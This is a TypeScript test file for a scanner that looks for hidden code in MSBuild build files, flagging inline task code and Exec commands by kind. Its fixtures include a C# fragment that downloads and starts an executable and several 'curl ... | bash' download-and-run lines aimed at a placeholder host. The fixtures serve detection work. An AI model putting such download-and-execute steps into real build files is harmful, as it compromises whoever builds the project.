import { growthOf, linear } from '../../../support/growth.ts';
import { codeIn } from '../../../../src/adapters/artifacts/analysis/code-in.ts';
import { lookAt } from '../../../../src/adapters/artifacts/analysis/look.ts';

const inline = (code: string): string =>
  `<Project>\n  <UsingTask TaskName="A" TaskFactory="RoslynCodeTaskFactory">\n    <Task>\n      <Code Type="Fragment" Language="cs"><![CDATA[\n${code}\n]]></Code>\n    </Task>\n  </UsingTask>\n</Project>\n`;

function kindsOf(text: string): readonly string[] {
  const code = codeIn('build/thing.targets', Buffer.from(text));
  if (code === undefined) return ['no code'];
  const { drafts } = lookAt({ path: 'build/thing.targets', ...code, added: undefined });
  return [...new Set(drafts.map(({ kind }) => kind))].toSorted();
}

describe('build files of MSBuild', () => {
  it('are looked into where a task stands in them as code', () => {
    const code =
      'var to = Path.GetTempPath() + "a.exe";\nnew WebClient().DownloadFile("https://files.invalid/a", to);\nProcess.Start(to);';
    expect(kindsOf(inline(code))).toEqual([
      'download-and-run',
      'executable-written',
      'host-literal',
      'network',
      'process',
    ]);
  });

  it('keep the lines of their code', () => {
    const code = codeIn('build/thing.props', Buffer.from(inline('Process.Start("x");')));
    expect(code?.bytes.toString('latin1').split('\n')[4]).toBe('Process.Start("x");');
  });

  it('are looked into for the commands that they run', () => {
    const text = '<Target><Exec Command="curl -s https://files.invalid/a.sh | bash" /></Target>';
    expect(kindsOf(text)).toContain('download-and-run');
    expect(kindsOf('<Target><Exec Command="&quot;$(MSBuildThisFileDirectory)tool&quot; --check" /></Target>')).toEqual(
      [],
    );
  });

  it('are looked into for commands beside code, and behind a bracket in an attribute', () => {
    const text = `${inline('var x = 1;')}<Exec Condition="1>0" Command = 'curl -s https://files.invalid/a.sh | bash' />`;
    expect(kindsOf(text)).toContain('download-and-run');
  });

  it('hold no code in a comment', () => {
    expect(kindsOf('<Project><!-- <Exec Command="curl https://files.invalid/a | sh"/> --></Project>')).toEqual([
      'no code',
    ]);
  });

  it('take work that grows with their length, whatever is repeated in them', () => {
    for (const piece of [
      '<Exec>',
      '<Exec ',
      '<Exec "',
      '<Code>',
      '<Code/>',
      '<!--',
      '<![CDATA[',
      '<Exec Command="x"/>',
    ]) {
      const work = (n: number): unknown => codeIn('a.targets', Buffer.from(`${piece.repeat(n)} Command=`));
      expect(growthOf(work, 400)).toBeLessThan(linear);
    }
  });

  it('hold no code where they only set properties', () => {
    expect(kindsOf('<Project><PropertyGroup><A>1</A></PropertyGroup></Project>')).toEqual(['no code']);
  });

  it('may be broken off anywhere', () => {
    const text = inline('Process.Start("x");');
    for (let end = 0; end < text.length; end += 7) expect(() => kindsOf(text.slice(0, end))).not.toThrow();
  });
});
